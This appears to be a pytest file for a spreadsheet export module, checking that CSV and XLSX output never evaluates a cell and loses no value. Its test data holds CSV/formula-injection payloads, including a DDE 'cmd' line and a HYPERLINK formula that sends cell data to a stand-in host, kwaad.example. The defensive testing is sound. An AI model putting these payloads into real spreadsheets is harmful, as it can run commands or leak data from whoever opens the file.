"""A spreadsheet evaluates no cell and loses no value, in either CSV or XLSX."""

from datetime import date
from decimal import Decimal
from io import BytesIO
from itertools import product

import pytest
from openpyxl import load_workbook

from regions.sheets.columns import as_cell
from regions.sheets.csv_file import PROTECTION, csv_file, is_formula
from regions.sheets.xlsx_file import MAX_CHARACTERS, TRUNCATION_NOTE, xlsx_file
from tests.regions.sheets.reading import csv_rows, xlsx_rows

BEFORE = [
    *("", " ", "\t", "\r", "\n", "\r\n", "\xa0", "\u3000", "\ufeff", "\u200b", "\u202e", "\x00"),
    *("'", '"', ";", ",", '";'),
]
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹣", "⁼", "_x003D_", "<f>", ""]
FORMULAS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://kwaad.example/?a="&A1;"klik")',
    "3,5",
    "WEBSERVICE(\u2018https://kwaad.example\u2019)",
    "een\r\n=twee",
    "]]>&amp;<b>\x1b[0m",
]
HOSTILE = ["".join(parts) for parts in product(BEFORE, SIGNS, FORMULAS)]


def in_columns(values):
    return [[as_cell(value), "laatste"] for value in values]


def xlsx(rows):
    return xlsx_file(["waarde", "einde"], rows, [("Wat", "=1+1")], "Titel", date(2026, 11, 29))


def test_many_of_a_thousand_hostile_values_would_be_evaluated():
    assert len(set(HOSTILE)) > 1000
    assert sum(is_formula(as_cell(value)) for value in HOSTILE) > 500


def test_csv_protects_each_value_and_loses_none():
    rows = in_columns(HOSTILE)
    _, *read = csv_rows(csv_file(["waarde", "einde"], rows))

    assert [is_formula(cell) for row in read for cell in row] == [False] * len(rows) * 2
    unprotected = [
        [cell[1:] if is_formula(value) else cell for cell, value in zip(*pair, strict=True)]
        for pair in zip(read, rows, strict=True)
    ]
    assert unprotected == rows


def test_xlsx_stores_each_value_as_text_and_loses_none():
    rows = in_columns(HOSTILE)
    content = xlsx(rows)

    for sheet in load_workbook(BytesIO(content)):
        assert {cell.data_type for row in sheet.rows for cell in row} == {"s"}
        assert not any(cell.hyperlink for row in sheet.rows for cell in row)
    assert xlsx_rows(content)[1:] == rows


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＠", "﹢", "\t", "\n=", " \u200b="])
def test_formulas_are_recognised(sign):
    assert is_formula(f"{sign}1")
    assert not is_formula(f"{PROTECTION}{sign}1")


def test_a_negative_number_stays_a_number():
    row = [Decimal("-3.5"), -3, date(2024, 2, 29)]

    assert csv_rows(csv_file(["a", "b", "c"], [row]))[1] == ["-3,5", "-3", "2024-02-29"]
    sheet = load_workbook(
        BytesIO(xlsx_file(["a", "b", "c"], [row], [], "Titel", date(2026, 1, 1)))
    )["Gegevens"]
    assert [cell.data_type for cell in sheet[2]] == ["n", "n", "d"]
    assert [cell.value for cell in sheet[2]][:2] == [-3.5, -3]
    assert sheet["C2"].value.date() == date(2024, 2, 29)


def test_a_text_too_long_for_excel_is_truncated_with_a_note():
    fits, too_long = "a" * MAX_CHARACTERS, "é😀" * MAX_CHARACTERS
    _, first, second = xlsx_rows(xlsx(in_columns([fits, too_long])))

    assert first[0] == fits
    assert second[0].endswith(TRUNCATION_NOTE)
    assert len(second[0].encode("utf-16-le")) // 2 <= MAX_CHARACTERS
    assert csv_rows(csv_file(["a", "b"], in_columns([too_long])))[1][0] == too_long


def test_a_date_outside_the_range_of_excel_is_text():
    _, (text, day) = xlsx_rows(xlsx([[date(1899, 12, 31), date(1900, 1, 1)]]))

    assert (text, day.date()) == ("31-12-1899", date(1900, 1, 1))
